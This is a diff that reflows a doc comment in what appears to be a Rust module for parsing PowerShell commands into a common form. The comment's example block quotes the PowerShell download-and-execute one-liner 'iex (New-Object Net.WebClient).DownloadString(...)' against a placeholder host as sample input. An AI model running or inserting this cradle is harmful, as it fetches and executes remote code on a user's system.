@@ -1,8 +1,7 @@
 //! PowerShell into the common form, from tokens.
 //!
 //! There is no grammar for PowerShell here, and the relevant parts need none: commands and their words, pipes, assignments, method calls
-//! and the
-//! few operators that concatenate strings. A statement that begins with a value is an expression, any other is a command.
+//! and the few operators that concatenate strings. A statement that begins with a value is an expression, any other is a command.
 //!
 //! ```text
 //! iex (New-Object Net.WebClient).DownloadString('http://x')
